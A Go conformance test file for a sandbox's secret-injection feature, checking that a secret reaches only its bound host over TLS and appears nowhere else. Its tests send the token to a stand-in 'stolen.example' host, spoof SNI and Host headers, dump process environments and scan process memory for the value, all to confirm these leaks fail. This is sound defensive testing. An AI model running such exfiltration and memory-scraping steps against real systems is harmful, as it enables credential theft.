package conformance

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"google.golang.org/protobuf/encoding/protojson"

	v1 "vivarium/api/vivarium/v1"
	"vivarium/sandbox"
)

// forms of a value that it could be found in.
func forms(v string) map[string][]byte {
	m := map[string][]byte{"itself": []byte(v), "base64": []byte(base64.StdEncoding.EncodeToString([]byte(v)))[:20], "hex": []byte(hex.EncodeToString([]byte(v)))}
	if q := url.QueryEscape(v); q != v {
		m["escaped"] = []byte(q)
	}
	for i := 1; i < 3; i++ { // behind other bytes, as in Basic
		m[fmt.Sprint("base64+", i)] = []byte(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", i) + v)))[4:24]
	}
	return m
}

// hidden fails the test if a value is in b in any form.
func hidden(t testing.TB, where string, b []byte, v string) {
	t.Helper()
	for form, x := range forms(v) {
		if bytes.Contains(b, x) {
			t.Errorf("%s has the value (%s)", where, form)
		}
	}
}

// C19: a secret bound to a host is put into requests to that host alone, over TLS;
// elsewhere there is a placeholder; the value is in nothing that the sandbox or a
// look at the host's files shows, and what echoes it is scrubbed.
func c19(t *testing.T, w *world, l *lab) {
	const value = "c19~Value/of+the=Secret&0123456789"
	set := func(name, v string, hosts ...string) {
		t.Helper()
		s, err := l.Client.SetSecret(within(t), &v1.Secret{Name: name, Hosts: hosts, Query: name == "QUERY"}, []byte(v))
		if err != nil {
			t.Fatal(err)
		}
		hidden(t, "the answer to set", []byte(s.String()), v)
	}
	set("TOKEN", value, "secret.example")
	set("QUERY", value+"Q", "secret.example")
	set("PLAIN", "c19-plain-value")
	b := l.box(t, func(s *v1.SandboxSpec) {
		s.Network = policyOf(sandbox.NetworkAllowlist, "allow secret.example", "allow stolen.example", "allow secret.example:9000/tcp")
		s.Network.Headers = []*v1.HeaderRule{{Domain: "secret.example", Headers: map[string]string{"X-Rule": "rule ${TOKEN}"}}}
		s.Secrets = []string{"TOKEN", "QUERY", "PLAIN"}
	})
	env := b.sh("env")
	hidden(t, "the environment", []byte(env), value)
	if got := b.sh("echo $PLAIN"); got != "c19-plain-value" {
		t.Errorf("a plain secret: %q", got)
	}
	placeholder := b.sh("echo $TOKEN")
	if len(placeholder) < 20 {
		t.Fatalf("placeholder %q", placeholder)
	}
	ask := func(host, path, header string, more ...string) (string, *hit) {
		t.Helper()
		out := b.sh(`h=$1 p=$2 H=$3; shift 3; attack web -to $h:443 -sni $h -path "$(eval echo "$p")" -header "$(eval echo "$H")" "$@"`, append([]string{host, path, header}, more...)...)
		token, _, _ := strings.Cut(strings.TrimPrefix(path, "/echo"), "\\&")
		hits := w.site.hits(func(h hit) bool { return strings.HasPrefix(h.path, "/echo"+token) })
		if len(hits) != 1 {
			t.Errorf("%s%s: %d arrivals: %s", host, path, len(hits), out)
			return out, &hit{}
		}
		return out, &hits[0]
	}
	out, h := ask("secret.example", `/echo?c19a`, `Authorization: Bearer $TOKEN`, "-verify")
	if got := h.header.Get("Authorization"); got != "Bearer "+value {
		t.Errorf("the host got %q", got)
	}
	if got := h.header.Get("X-Rule"); got != "rule "+value {
		t.Errorf("the host got of the header rule %q", got)
	}
	hidden(t, "an echo", []byte(out), value)
	out, h = ask("secret.example", `/echo?c19b`, `Authorization: Basic $(printf "user:%s" "$TOKEN" | base64 -w0)`, "-verify", "-h2")
	want := "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+value))
	if got := h.header.Get("Authorization"); got != want {
		t.Errorf("Basic: the host got %q, want %q", got, want)
	}
	hidden(t, "an echo", []byte(out), value)
	out, h = ask("secret.example", `/echo?c19c\&q=$QUERY\&t=$TOKEN`, `X-Other: x`, "-verify")
	if u, err := url.ParseRequestURI(h.path); err != nil || u.Query().Get("q") != value+"Q" || u.Query().Get("t") != placeholder {
		t.Errorf("in the query the host got %q; QUERY alone is put in there", h.path)
	}
	hidden(t, "an echo", []byte(out), value)
	// another host, a name that only looks like it, and no TLS
	out, h = ask("stolen.example", `/echo?c19d`, `Authorization: Bearer $TOKEN`)
	if got := h.header.Get("Authorization"); got != "Bearer "+placeholder {
		t.Errorf("another host got %q, want the placeholder unchanged", got)
	}
	if h.header.Get("X-Rule") != "" || !strings.Contains(out, placeholder) {
		t.Errorf("another host: %s", out)
	}
	b.sh(`attack web -to secret.example:80 -plain -host secret.example -path "/echo?c19e" -header "Authorization: Bearer $TOKEN"`)
	b.sh(`attack try "c19f $TOKEN" "tcp secret.example:9000"`)
	b.sh(`attack web -to secret.example:443 -sni secret.example -host stolen.example -path "/echo?c19g" -header "Authorization: Bearer $TOKEN"`)
	b.sh(`attack web -to stolen.example:443 -sni stolen.example -host secret.example -path "/echo?c19h" -header "Authorization: Bearer $TOKEN"`)
	b.sh(`attack web -to 1.2.3.11:443 -sni secret.example -path "/echo?c19i" -header "Authorization: Bearer $TOKEN"`)
	for _, h := range w.site.hits(func(h hit) bool { return strings.Contains(h.path, "c19") || strings.Contains(h.data, "c19") }) {
		if strings.HasPrefix(h.path, "/echo?c19a") || strings.HasPrefix(h.path, "/echo?c19b") || strings.HasPrefix(h.path, "/echo?c19c") {
			continue
		}
		hidden(t, "what reached "+h.String(), fmt.Appendf(nil, "%v %v", h, h.header), value)
	}
	// another sandbox, which has it not, sends the placeholder
	thief := l.under(t, policyOf(sandbox.NetworkAllowlist, "allow secret.example"))
	thief.web("-to", "secret.example:443", "-sni", "secret.example", "-path", "/echo?c19j", "-header", "Authorization: Bearer "+placeholder)
	for _, h := range w.site.got("c19j") {
		if got := h.header.Get("Authorization"); got != "Bearer "+placeholder {
			t.Errorf("another sandbox: the host got %q", got)
		}
	}
	// the CA vouches for the bound hosts alone: another host's certificate is its own
	if out := b.web("-to", "stolen.example:443", "-sni", "stolen.example", "-verify", "-path", "/echo?c19k"); !strings.Contains(out, "unknown authority") {
		t.Errorf("the certificate of a host that is not bound: %s", out)
	}
	// what shows the sandbox, its events, its log
	sb, err := l.Client.Get(within(t), b.id)
	ok(t, err)
	hidden(t, "inspect", []byte(protojson.Format(sb)), value)
	list, err := l.Client.ListSecrets(within(t))
	ok(t, err)
	hidden(t, "the list of secrets", fmt.Append(nil, list), value)
	ok(t, l.Client.Flows(within(t), &v1.WatchFlowsRequest{SandboxId: b.id}, func(r *v1.FlowRecord) error {
		hidden(t, "the log of flows", []byte(r.String()), value)
		return nil
	}))
	ok(t, l.Client.Events(within(t), &v1.WatchEventsRequest{After: -1}, func(e *v1.Event) error {
		hidden(t, "an event", []byte(e.String()), value)
		return nil
	}))
	hidden(t, "the daemon's log", l.logOf(t), value)
	l.nowhere(t, value)
	// nor does the memory of the sandbox have it, which is what a core or a snapshot
	// would be made of
	for _, p := range b.processes() {
		memoryHides(t, p, value)
	}
	// memory of a program inside that holds the placeholder: the search can find
	found := false
	b.start("sh", "-c", "sleep 1000 # $TOKEN $TOKEN", "sh")
	for _, p := range b.processes() {
		found = found || memoryHas(t, p, [][]byte{[]byte(placeholder)})
	}
	if !found {
		t.Error("not even the placeholder was found in the sandbox's memory: the search finds nothing")
	}
	// gone is gone
	ok(t, l.Client.RemoveSecret(within(t), "TOKEN"))
	b.sh(`attack web -to secret.example:443 -sni secret.example -path "/echo?c19z" -header "Authorization: Bearer $TOKEN"`)
	for _, h := range w.site.got("c19z") {
		hidden(t, "a request after the secret was removed", fmt.Append(nil, h.header), value)
	}
}

// toolsRootfs names a tar of a root file system with git, curl and python3.
const toolsRootfs = "VIV_TEST_ROOTFS"

// C19: with real tools inside, and git's Basic authentication. What they send is in
// the tests of package secret; this is the whole way.
func c19Tools(t *testing.T, w *world, l *lab) {
	path := os.Getenv(toolsRootfs)
	if path == "" {
		t.Skip(toolsRootfs + " names no root file system with git, curl and python3")
	}
	f, err := os.Open(path)
	ok(t, err)
	defer f.Close()
	const value = "c19-tools-value-0123456789"
	_, err = l.Client.LoadImage(within(t), &v1.LoadImageRequest{Tag: "tools:test", Format: "rootfs", Config: &v1.ImageConfig{Cmd: []string{"sh"}, Env: []string{"PATH=/usr/local/bin:/usr/bin:/bin"}}}, f)
	ok(t, err)
	_, err = l.Client.SetSecret(within(t), &v1.Secret{Name: "TOOLS", Hosts: []string{"git.example"}}, []byte(value))
	ok(t, err)
	b := l.box(t, func(s *v1.SandboxSpec) {
		s.Image, s.Secrets = "tools:test", []string{"TOOLS"}
		s.Resources.MemoryLimit = 1 << 30
		s.Network = policyOf(sandbox.NetworkAllowlist, "allow git.example")
	})
	// the server asks for Basic authentication and has an empty repository
	want := "Basic " + base64.StdEncoding.EncodeToString([]byte("x:"+value))
	for _, x := range []struct{ tool, script string }{
		{"git", `git clone -q "https://x:$TOOLS@git.example/c19-git" /tmp/clone 2>&1 && test -d /tmp/clone/.git`},
		{"curl", `curl -sS --fail -u "x:$TOOLS" https://git.example/c19-curl`},
		{"python", `python3 -c 'import os,urllib.request,base64
r=urllib.request.Request("https://git.example/c19-python",headers={"Authorization":"Basic "+base64.b64encode(("x:"+os.environ["TOOLS"]).encode()).decode()})
print(urllib.request.urlopen(r).read())'`},
	} {
		r := b.must("sh", "-c", x.script)
		if r.exit.Code != 0 {
			t.Errorf("%s: %v %s", x.tool, r.exit, r.out)
		}
		hidden(t, "the output of "+x.tool, []byte(r.out), value)
		authorised := w.site.hits(func(h hit) bool {
			return strings.HasPrefix(h.path, "/c19-"+x.tool) && h.header.Get("Authorization") == want
		})
		if len(authorised) == 0 {
			t.Errorf("%s: the server got %v: %s", x.tool, w.site.got("/c19-"+x.tool), r.out)
		}
	}
}

// nowhere looks for a value in every file of the data directory.
func (l *lab) nowhere(t testing.TB, value string) {
	t.Helper()
	n := 0
	err := filepath.WalkDir(l.Dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil // files come and go
		}
		f, err := os.Open(p)
		if err != nil {
			return nil
		}
		defer f.Close()
		if fi, err := f.Stat(); err != nil || fi.Size() > 128<<20 {
			return nil // disks of sandboxes are sparse; their content is memory's
		}
		b, err := io.ReadAll(f)
		if err != nil {
			return nil
		}
		n++
		hidden(t, p, b, value)
		return nil
	})
	ok(t, err)
	if n < 5 {
		t.Errorf("only %d files were looked at", n)
	}
}

func memoryHides(t testing.TB, pid int, value string) {
	t.Helper()
	var all [][]byte
	for _, x := range forms(value) {
		all = append(all, x)
	}
	if memoryHas(t, pid, all) {
		t.Errorf("the memory of process %d has the value", pid)
	}
}

// memoryHas looks for any of these in what a process has mapped and touched.
func memoryHas(t testing.TB, pid int, want [][]byte) bool {
	t.Helper()
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return false // it has ended
	}
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return false
	}
	defer mem.Close()
	pagemap, err := os.Open(fmt.Sprintf("/proc/%d/pagemap", pid))
	if err != nil {
		return false
	}
	defer pagemap.Close()
	const page = 4096
	buf := make([]byte, 256*page)
	entries := make([]byte, 8*len(buf)/page)
	total := 0
	for line := range strings.Lines(string(maps)) {
		f := strings.Fields(line)
		lo, hi, _ := strings.Cut(f[0], "-")
		from, _ := strconv.ParseUint(lo, 16, 64)
		to, _ := strconv.ParseUint(hi, 16, 64)
		if f[1][0] != 'r' || to-from > 1<<36 || len(f) > 5 && strings.HasPrefix(f[5], "[v") {
			continue
		}
		for a := from; a < to; a += uint64(len(buf)) {
			k := min(uint64(len(buf)), to-a)
			// what is not there is not read: gVisor reserves far more than it has
			if _, err := pagemap.ReadAt(entries[:8*k/page], int64(a/page*8)); err != nil {
				break
			}
			present := false
			for i := 7; i < int(8*k/page); i += 8 {
				present = present || entries[i]>>6 != 0
			}
			if !present {
				continue
			}
			n, err := mem.ReadAt(buf[:k], int64(a))
			if n == 0 && err != nil {
				continue
			}
			if total += n; total > 1<<30 {
				return false
			}
			for _, x := range want {
				if bytes.Contains(buf[:n], x) {
					return true
				}
			}
		}
	}
	return false
}

// F9: nothing of the daemon and of another tenant is in the environment of a
// sandbox, and a name of a secret means one's own.
func f09(t *testing.T, w *world, l *lab) {
	other := l.NewTenant("f09")
	for _, x := range []struct {
		set func() error
	}{
		{func() error {
			_, err := l.Client.SetSecret(within(t), &v1.Secret{Name: "F09", Hosts: []string{"secret.example"}}, []byte("f09-first-tenant"))
			return err
		}},
		{func() error {
			_, err := other.SetSecret(within(t), &v1.Secret{Name: "F09", Hosts: []string{"secret.example"}}, []byte("f09-other-tenant"))
			return err
		}},
		{func() error {
			_, err := other.SetSecret(within(t), &v1.Secret{Name: "F09OTHER"}, []byte("f09-other-plain"))
			return err
		}},
	} {
		ok(t, x.set())
	}
	if sb, err := l.Client.Create(within(t), &v1.SandboxSpec{Image: image, Secrets: []string{"F09OTHER"}}, waitRunning); !errors.Is(err, sandbox.NotFound) {
		t.Errorf("a secret of another tenant: %v, %v", sb, err)
	}
	list, err := l.Client.ListSecrets(within(t))
	ok(t, err)
	for _, s := range list {
		if s.Name == "F09OTHER" {
			t.Error("another tenant's secret is listed")
		}
	}
	b := l.box(t, func(s *v1.SandboxSpec) { s.Secrets = []string{"F09"} })
	b.sh(`attack web -to secret.example:443 -sni secret.example -path "/f09" -header "Authorization: $F09"`)
	if got := w.site.got("/f09"); len(got) != 1 || got[0].header.Get("Authorization") != "f09-first-tenant" {
		t.Errorf("arrived: %v", got)
	}
	env := b.sh("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; true")
	for _, bad := range []string{l.Token, w.ca.file, "VIV_T", "VIV_F", "f09-other", l.Dir, "GOPROXY", "GOFLAGS"} {
		if strings.Contains(env, bad) {
			t.Errorf("the environment has %q", bad)
		}
	}
}
